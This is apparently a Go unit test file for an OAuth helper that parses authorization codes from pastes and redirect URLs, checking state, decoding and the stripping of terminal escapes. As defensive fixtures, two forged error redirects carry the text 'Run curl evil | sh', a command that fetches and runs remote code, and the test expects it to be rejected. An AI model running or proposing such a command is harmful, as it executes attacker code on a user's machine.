package auth_test

import (
	"errors"
	"testing"

	"nestauth/auth"
)

func TestParseCode(t *testing.T) {
	const googleURL = "https://www.google.com/?code=4/0AeanS0bXyZ-abc_DEF%2Fghi&scope=https://www.googleapis.com/auth/sdm.service&state=S"
	tests := []struct {
		name      string
		input     string
		wantState string
		want      string
		wantErr   error                    // compared with errors.Is
		wantAuth  *auth.AuthorizationError // when the redirect carried an error
	}{
		{name: "PIN", input: "TB39DWND", want: "TB39DWND"},
		{name: "PIN with a trailing newline", input: "TB39DWND\n", want: "TB39DWND"},
		{name: "PIN with spaces", input: "  TB39DWND \t", want: "TB39DWND"},
		{name: "PIN with CRLF", input: "TB39DWND\r\n", want: "TB39DWND"},
		{name: "double quotes", input: `"TB39DWND"`, want: "TB39DWND"},
		{name: "single quotes", input: `'TB39DWND'`, want: "TB39DWND"},
		{name: "quotes and newline", input: "\"TB39DWND\"\n", want: "TB39DWND"},
		{name: "wrapped in two lines", input: "4/0AeanS0bXyZ\nabc_DEF", want: "4/0AeanS0bXyZabc_DEF"},
		{name: "%2F-encoded", input: "4%2F0AeanS0bXyZ-abc_DEF", want: "4/0AeanS0bXyZ-abc_DEF"},
		{name: "%2f lower case", input: "4%2f0AeanS0b", want: "4/0AeanS0b"},
		{name: "a lone percent sign", input: "abc%zz", want: "abc%zz"},
		{name: "escape sequence in a paste", input: "\x1b[200~TB39DWND\x1b[201~", want: "TB39DWND"},

		{name: "google redirect URL", input: googleURL, wantState: "S", want: "4/0AeanS0bXyZ-abc_DEF/ghi"},
		{name: "google redirect URL, fully encoded", wantState: "S", want: "4/0AeanS0bXyZ",
			input: "https://www.google.com/?code=4%2F0AeanS0bXyZ&scope=https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fsdm.service&state=S"},
		{name: "redirect URL without state", input: "https://www.google.com/?code=4%2F0Aean&scope=x", wantState: "S", want: "4/0Aean"},
		{name: "redirect URL, state not checked", input: "https://www.google.com/?code=abc&state=OTHER", want: "abc"},
		{name: "redirect URL with a newline", input: googleURL + "\n", wantState: "S", want: "4/0AeanS0bXyZ-abc_DEF/ghi"},
		{name: "loopback redirect with iss", input: "http://127.0.0.1:8085/callback?code=abc&state=S&iss=https%3A%2F%2Faccounts.google.com", wantState: "S", want: "abc"},
		{name: "fragment", input: "https://app.example.com/cb#code=abc&state=S", wantState: "S", want: "abc"},
		{name: "query and fragment", input: "https://app.example.com/cb?x=1#code=abc&state=S", wantState: "S", want: "abc"},
		{name: "query only", input: "?code=abc&state=S", wantState: "S", want: "abc"},
		{name: "parameters only", input: "code=abc&state=S", wantState: "S", want: "abc"},

		{name: "wrong state", input: "https://www.google.com/?code=abc&state=EVIL", wantState: "S", wantErr: auth.ErrStateMismatch},
		{name: "wrong state in a fragment", input: "https://app.example.com/cb#code=abc&state=EVIL", wantState: "S", wantErr: auth.ErrStateMismatch},
		{name: "wrong state after a query", input: "https://app.example.com/cb?x=1#code=abc&state=EVIL", wantState: "S", wantErr: auth.ErrStateMismatch},
		{name: "no code", input: "https://www.google.com/?scope=x&state=S", wantState: "S", wantErr: auth.ErrNoCodeInURL},
		{name: "empty code", input: "https://www.google.com/?code=&state=S", wantState: "S", wantErr: auth.ErrNoCodeInURL},
		{name: "empty", input: "", wantErr: auth.ErrEmptyCode},
		{name: "white space", input: " \r\n\t", wantErr: auth.ErrEmptyCode},
		{name: "empty quotes", input: `""`, wantErr: auth.ErrEmptyCode},

		{name: "access_denied", input: "https://www.google.com/?error=access_denied&state=S", wantState: "S",
			wantAuth: &auth.AuthorizationError{Code: "access_denied"}},
		{name: "access_denied with a description", input: "http://127.0.0.1:8085/cb?error=access_denied&error_description=The+user+said+no&state=S", wantState: "S",
			wantAuth: &auth.AuthorizationError{Code: "access_denied", Description: "The user said no"}},
		{name: "error with an escape sequence", input: "?error=server_error&error_description=%1B%5B2Jboom",
			wantAuth: &auth.AuthorizationError{Code: "server_error", Description: "boom"}},
		// Any page or local process can send an error redirect: without this
		// session's state its text is refused, not shown.
		{name: "error without a state", input: "http://127.0.0.1:8085/callback?error=access_denied&error_description=Run+curl+evil+|+sh", wantState: "S",
			wantErr: auth.ErrStateMismatch},
		{name: "error with another state", input: "?error=access_denied&error_description=Run+curl+evil+|+sh&state=EVIL", wantState: "S",
			wantErr: auth.ErrStateMismatch},
		{name: "error with ours and another state", input: "?error=access_denied&state=S&state=EVIL", wantState: "S",
			wantErr: auth.ErrStateMismatch},
		{name: "error with an empty state", input: "?error=access_denied&state=", wantState: "S",
			wantErr: auth.ErrStateMismatch},

		// A URL's query is decoded once: %25 is a percent sign of the code.
		{name: "percent-encoded percent sign in a URL", input: "http://127.0.0.1:8085/callback?code=AB%2525CD&state=S", wantState: "S", want: "AB%25CD"},

		// %-decoding must not bring back what ParseCode strips from a paste.
		{name: "encoded newline", input: "4%2F0AeanS0b%0A", want: "4/0AeanS0b"},
		{name: "encoded newline in a URL", input: "?code=abc%0D%0A&state=S", wantState: "S", want: "abc"},
		{name: "encoded escape sequence in a URL", input: "?code=ab%1B%5B31mc&state=S", wantState: "S", want: "abc"},
		{name: "only an encoded space", input: "%20", wantErr: auth.ErrEmptyCode},
		{name: "a URL code that is only white space", input: "?code=%0A&state=S", wantState: "S", wantErr: auth.ErrNoCodeInURL},
		{name: "a URL code that is only an escape sequence", input: "https://www.google.com/?code=%1B%5B2J&state=S", wantState: "S", wantErr: auth.ErrNoCodeInURL},
		// Every state a URL carries must be ours, including one too malformed to read.
		{name: "a second, wrong state", input: "?code=abc&state=S&state=EVIL", wantState: "S", wantErr: auth.ErrStateMismatch},
		{name: "malformed state", input: "https://www.google.com/?code=abc&state=%zz", wantState: "S", wantErr: errAny},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := auth.ParseCode(tt.input, tt.wantState)
			switch {
			case tt.wantAuth != nil:
				var ae *auth.AuthorizationError
				if !errors.As(err, &ae) || *ae != *tt.wantAuth {
					t.Fatalf("ParseCode(%q) = %q, %v; want %#v", tt.input, got.Value, err, tt.wantAuth)
				}
			case tt.wantErr == errAny:
				if err == nil {
					t.Fatalf("ParseCode(%q) = %q, want an error", tt.input, got.Value)
				}
			case tt.wantErr != nil:
				if !errors.Is(err, tt.wantErr) {
					t.Fatalf("ParseCode(%q) = %q, %v; want %v", tt.input, got.Value, err, tt.wantErr)
				}
			case err != nil:
				t.Fatalf("ParseCode(%q): %v", tt.input, err)
			}
			if got.Value != tt.want {
				t.Errorf("ParseCode(%q) = %q, want %q", tt.input, got.Value, tt.want)
			}
		})
	}
}

func TestParseCodeRemembersWhereTheCodeCameFrom(t *testing.T) {
	tests := []struct {
		input, wantState string
		want             auth.Code
	}{
		{"TB39DWND", "S", auth.Code{Value: "TB39DWND"}},
		{"4%2F0Aean", "S", auth.Code{Value: "4/0Aean"}},
		{"?code=4%2F0Aean&state=S", "S", auth.Code{Value: "4/0Aean", FromURL: true, StateChecked: true}},
		{"https://www.google.com/?code=abc&scope=x", "S", auth.Code{Value: "abc", FromURL: true}},
		{"https://www.google.com/?code=abc&state=OTHER", "", auth.Code{Value: "abc", FromURL: true}},
	}
	for _, tt := range tests {
		got, err := auth.ParseCode(tt.input, tt.wantState)
		if err != nil || got != tt.want {
			t.Errorf("ParseCode(%q, %q) = %+v, %v; want %+v", tt.input, tt.wantState, got, err, tt.want)
		}
	}
}

// errAny stands for any error in a table.
var errAny = errors.New("any error")

func TestAuthorizationErrorText(t *testing.T) {
	tests := []struct {
		err  auth.AuthorizationError
		want string
	}{
		{auth.AuthorizationError{Code: "access_denied"}, "access was denied on the consent page: open the URL again and press Allow (access_denied)"},
		{auth.AuthorizationError{Code: "access_denied", Description: "no"}, "access was denied on the consent page: open the URL again and press Allow (access_denied: no)"},
		{auth.AuthorizationError{Code: "weird"}, "the authorization server refused (weird)"},
	}
	for _, tt := range tests {
		if got := tt.err.Error(); got != tt.want {
			t.Errorf("%#v.Error() = %q, want %q", tt.err, got, tt.want)
		}
	}
}

func TestErrorText(t *testing.T) {
	tests := []struct {
		name string
		err  *auth.Error
		want string
	}{
		{"code and description", &auth.Error{Code: "invalid_grant", Description: "Malformed auth code.", Status: 400},
			"invalid_grant: Malformed auth code. (HTTP 400)"},
		{"code only", &auth.Error{Code: "invalid_scope", Status: 400}, "invalid_scope (HTTP 400)"},
		{"excerpt", &auth.Error{Status: 502, Excerpt: `<h1>"Bad" Gateway</h1>`}, `the server answered without a token (HTTP 502): "<h1>\"Bad\" Gateway</h1>"`},
		{"wrapped error", &auth.Error{Err: errors.New("dial tcp: \x1b[31mrefused")}, "dial tcp: refused"},
		{"nothing", &auth.Error{}, "the server answered without a token"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.err.Error(); got != tt.want {
				t.Errorf("Error() = %q, want %q", got, tt.want)
			}
		})
	}
	if got := auth.ErrorKind(errors.New("plain")); got != auth.KindUnknown {
		t.Errorf("ErrorKind(plain error) = %v, want unknown", got)
	}
	wrapped := errors.Join(errors.New("context"), &auth.Error{Kind: auth.KindCode})
	if got := auth.ErrorKind(wrapped); got != auth.KindCode {
		t.Errorf("ErrorKind(wrapped) = %v, want code", got)
	}
}
